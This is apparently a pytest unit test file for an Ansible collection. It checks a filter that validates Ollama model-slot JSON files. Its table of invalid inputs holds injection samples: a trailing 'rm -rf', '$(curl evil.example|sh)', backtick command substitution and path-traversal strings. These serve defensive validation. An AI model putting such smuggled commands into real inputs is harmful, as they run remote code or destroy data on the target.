# -*- coding: utf-8 -*-
# Copyright (c) llmops.ollama contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every file in tests/data/selection/ read as a playbook reads it (file text, then from_json)."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import json
import os

import pytest

from ansible_collections.llmops.ollama.plugins.filter.model_slots import model_slots
from ansible_collections.llmops.ollama.plugins.filter.rank_models import rank_models
from ansible_collections.llmops.ollama.tests.unit.plugins.filter.slot_helpers import (
    FALLBACK,
    TIME_EXPECTED,
    problems_of,
)

CORPUS = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..", "..", "data", "selection"))

# Valid files: (slot, base_model, source) for each slot, with FALLBACK for empty slots.
VALID = {
    "valid_seed.json": [
        (1, "qwen2.5-coder:14b", "selection"),
        (2, "llama3.1:8b", "selection"),
        (3, "deepseek-coder-v2:16b", "selection"),
    ],
    "valid_slot2_null.json": [
        (1, "qwen2.5-coder:14b", "selection"),
        (2, "llama3.1:8b", "fallback"),
        (3, "deepseek-coder-v2:16b", "selection"),
    ],
    "valid_all_null.json": [
        (1, "qwen2.5-coder:7b", "fallback"),
        (2, "llama3.1:8b", "fallback"),
        (3, "mistral:7b", "fallback"),
    ],
    "valid_timestamp_only.json": [
        (1, "qwen2.5-coder:7b", "fallback"),
        (2, "llama3.1:8b", "fallback"),
        (3, "mistral:7b", "fallback"),
    ],
    "valid_slot4.json": [
        (1, "qwen2.5-coder:14b", "selection"),
        (2, "llama3.1:8b", "selection"),
        (3, "deepseek-coder-v2:16b", "selection"),
        (4, "mistral:7b", "selection"),
    ],
    "valid_extra_keys.json": [
        (1, "qwen2.5-coder:14b", "selection"),
        (2, "llama3.1:8b", "selection"),
        (3, "deepseek-coder-v2:16b", "selection"),
    ],
    "valid_registry_names.json": [
        (1, "registry.ollama.ai/library/qwen2.5-coder:14b", "selection"),
        (2, "me/mario", "selection"),
        (3, "localhost:5000/team/backup-model:v1.2", "selection"),
        (4, "https://registry.example.com/ns/model_x:Q4_K_M", "selection"),
    ],
    "valid_huge.json": [
        (1, "qwen2.5-coder:14b", "selection"),
        (2, "llama3.1:8b", "selection"),
        (3, "deepseek-coder-v2:16b", "selection"),
    ],
}

# Invalid JSON: from_json fails before the filter runs.
NOT_JSON = ("invalid_empty.json", "invalid_not_json.json", "invalid_truncated.json")

# Invalid documents: the problem lines of the one error, as (path, text the line contains).
INVALID = {
    "invalid_array.json": [("$", "an object (mapping), found array (list) of 3 items")],
    "invalid_wrong_types.json": [
        ("$.slot1_coding", "a string or null, found integer 14"),
        ("$.slot2_general", "a string or null, found array (list) of 1 item"),
        ("$.slot3_backup", "a string or null, found object (mapping) with 1 key"),
        ("$.slot4_experimental", "a string or null, found boolean false"),
        ("$.timestamp", "a string, found integer 1736937000"),
    ],
    "invalid_typo_key.json": [
        ("$.slot1_codeing", "found an unknown slot key (did you mean 'slot1_coding'?)"),
    ],
    "invalid_typo_keys_many.json": [
        ("$.Slot1_coding", "found an unknown slot key (did you mean 'slot1_coding'?)"),
        ("$['slot3_backup ']", "found an unknown slot key (did you mean 'slot3_backup'?)"),
        ("$.slot5_extra", "found an unknown slot key"),
        ("$.slot_2_general", "found an unknown slot key (did you mean 'slot2_general'?)"),
        ("$.slots", "found an unknown slot key"),
    ],
    "invalid_shell_metacharacters.json": [
        ("$.slot1_coding", "its namespace 'qwen2.5-coder:14b; rm -rf ' contains '.'"),
        ("$.slot2_general", "its model '$(curl evil.example|sh)' must start with a letter, a digit or '_'"),
        ("$.slot3_backup", "its tag '8b`id`' contains '`'"),
        ("$.slot4_experimental", "its scheme 'x\\nFROM evil' is not http or https"),
    ],
    "invalid_path_traversal.json": [
        ("$.slot1_coding", "its host '../../../..' must start with a letter, a digit or '_'"),
        ("$.slot2_general", "its model '..' must start with a letter, a digit or '_'"),
        ("$.slot3_backup", "its host is empty"),
        ("$.slot4_experimental", "its host 'library/..' contains '/'"),
    ],
    "invalid_spaces.json": [
        ("$.slot1_coding", "its model 'qwen2.5 coder' contains ' '"),
        ("$.slot2_general", "its model ' llama3.1' must start with a letter, a digit or '_'"),
        ("$.slot3_backup", "its tag '16b ' contains ' '"),
        ("$.slot4_experimental", "found string '' (its model is empty)"),
    ],
    "invalid_long_names.json": [
        ("$.slot1_coding", "(95 characters) (its tag is longer than 80 characters)"),
        ("$.slot2_general", "its model is longer than 80 characters"),
        ("$.slot3_backup", "its namespace is longer than 80 characters"),
    ],
    "invalid_timestamps.json": [
        ("$.timestamp", "found string '2025-02-29T10:30:00Z' (day 29 does not exist in 2025-02)")
    ],
    "invalid_timestamp_no_zone.json": [("$.timestamp", TIME_EXPECTED)],
    "invalid_missing_timestamp.json": [("$.timestamp", "this required key, found no such key")],
    "invalid_huge_name.json": [("$.slot1_coding", "(400014 characters) (its tag is longer than 80 characters)")],
}


def _read(name):
    with open(os.path.join(CORPUS, name), encoding="utf-8") as handle:
        return handle.read()


def test_every_corpus_file_has_an_expectation():
    assert sorted(os.listdir(CORPUS)) == sorted(list(VALID) + list(NOT_JSON) + list(INVALID))


def test_huge_files_are_huge():
    assert os.path.getsize(os.path.join(CORPUS, "valid_huge.json")) > 256 * 1024
    assert os.path.getsize(os.path.join(CORPUS, "invalid_huge_name.json")) > 256 * 1024


@pytest.mark.parametrize("name", sorted(VALID))
def test_valid_files(name):
    slots = model_slots(json.loads(_read(name)), fallback=FALLBACK)
    assert [(slot["slot"], slot["base_model"], slot["source"]) for slot in slots] == VALID[name]


@pytest.mark.parametrize("name", NOT_JSON)
def test_files_that_are_not_json(name):
    text = _read(name)
    with pytest.raises(ValueError):
        json.loads(text)
    assert problems_of(model_slots, text, fallback=FALLBACK) == [
        ("$", "the parsed document, an object (mapping), found a string; parse it with from_json")
    ]


@pytest.mark.parametrize("name", sorted(INVALID))
def test_invalid_files(name):
    problems = problems_of(model_slots, json.loads(_read(name)), fallback=FALLBACK)
    assert [problem[0] for problem in problems] == [expected[0] for expected in INVALID[name]]
    for (path, text), (_path, fragment) in zip(problems, INVALID[name]):
        assert fragment in text, path
        assert len(text) < 500


def test_results_in_the_huge_file_rank_into_a_valid_document():
    results = json.loads(_read("valid_huge.json"))["benchmark_results"]
    document = rank_models(results, timestamp="2025-01-15T10:30:00Z")
    assert len(model_slots(document)) == 3
    assert len(set(document[key] for key in ("slot1_coding", "slot2_general", "slot3_backup"))) == 3
